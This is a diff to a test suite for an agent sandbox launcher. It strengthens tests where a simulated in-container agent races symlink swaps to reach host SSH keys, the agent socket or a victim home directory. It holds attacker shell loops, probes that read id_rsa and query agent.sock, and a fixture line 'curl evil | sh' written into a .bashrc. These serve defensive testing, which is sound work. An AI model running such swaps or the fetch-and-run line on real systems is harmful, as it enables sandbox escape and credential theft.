@@ -64,9 +64,10 @@ test('R103 auth.json in the workdir swapped for a link to a host key while runs 
   mkdirSync(path.join(workdir, 'codex'));
   writeFileSync(path.join(workdir, 'codex', 'auth.json'), '{"token":"REAL"}\n');
   chownTree(workdir);
+  // auth.json is, half of the time each, the real file or a link to the key (atomic swaps).
   const attacker = startAttacker(
     workdir,
-    `cd codex; while :; do mv auth.json auth.real; ln -s "$1/id_rsa" auth.json; rm -f auth.json; mv auth.real auth.json; done`.replace('$1', secrets.dir),
+    `cd codex; cp auth.json auth.real; while :; do ln -sfn "${secrets.dir}/id_rsa" l.tmp; mv -T l.tmp auth.json; sleep 0.03; cp auth.real r.tmp; mv -T r.tmp auth.json; sleep 0.03; done`,
   );
   const outcome = tries(() =>
     runLauncher(['shell', '--work_dir', workdir, '--', 'sh', '-c', 'cat /codex_home/auth.json 2>/dev/null; true'], { cwd: workdir, env: env() }),
@@ -88,7 +89,13 @@ test('R103 R104 a --read-only directory in the workdir swapped for a link to the
   writeFileSync(path.join(workdir, 'data', 'real.txt'), 'real data\n');
   chownTree(workdir);
   const attacker = startAttacker(workdir, `while :; do mv data data.real; ln -s "${secrets.dir}" data; rm -f data; mv data.real data; done`);
-  const probe = `cat /app${workdir}/data/id_rsa 2>/dev/null; curl -s -m 2 --unix-socket /app${workdir}/data/agent.sock http://x/ 2>/dev/null; ls /app${workdir}/data; true`;
+  // Wherever it might have been mounted: in place of data, or at /app<its real path>.
+  const places = [`/app${workdir}/data`, `/app${secrets.dir}`];
+  const probe = [
+    ...places.map((place) => `cat ${place}/id_rsa 2>/dev/null; curl -s -m 2 --unix-socket ${place}/agent.sock http://x/ 2>/dev/null`),
+    `grep -q host-secrets /proc/self/mountinfo && echo MOUNTED-host-secrets`,
+    `ls /app${workdir}/data; true`,
+  ].join('; ');
   const outcome = tries(() => runLauncher(['shell', '--work_dir', workdir, '--read-only', path.join(workdir, 'data'), '--', 'sh', '-c', probe], { cwd: workdir, env: env() }));
   attacker.remove();
   for (const result of outcome.results) {
@@ -96,6 +103,7 @@ test('R103 R104 a --read-only directory in the workdir swapped for a link to the
     if (result.status === 0) expect(result.stdout).toBe('real.txt\n');
   }
   expect(secrets.connections()).toBe(0);
+  expect(outcome.results.map((result) => result.stdout).join('')).not.toContain('MOUNTED-host-secrets');
   expect(outcome.ok + outcome.refused).toBe(TRIES);
   expect(outcome.refused).toBeGreaterThan(0);
 });
@@ -133,7 +141,17 @@ test('R107 pull into a directory the agent swaps for a link to a host directory:
   writeFileSync(path.join(victim, '.bashrc'), 'ORIGINAL\n');
   if (process.getuid?.() === 0) chownSync(victim, 1000, 1000);
   const before = hashTree(victim);
-  const attacker = startAttacker(workdir, `while :; do rm -rf inbox/out; ln -s "${victim}" inbox/out; rm -f inbox/out; done`);
+  // Any extraction directory appearing in DEST_DIR is swapped for a link to the victim at
+  // once, and the pulled directory's place flips between missing and such a link.
+  const attacker = startAttacker(
+    workdir,
+    [
+      'while :; do',
+      `  for d in inbox/.codex-pull-*; do [ -d "$d" ] && [ ! -L "$d" ] && mv "$d" "$d.moved" 2>/dev/null && ln -s "${victim}" "$d"; done`,
+      `  rm -rf inbox/out; ln -s "${victim}" inbox/out; rm -f inbox/out`,
+      'done',
+    ].join('\n'),
+  );
   expect(attacker.exec('mkdir -p /tmp/out && echo "curl evil | sh" > /tmp/out/.bashrc').status).toBe(0);
   const outcome = tries(() => runLauncher(['pull', '--name', attacker.name, '--force', '/tmp/out', inbox], { cwd: workdir, env: env() }));
   attacker.remove();
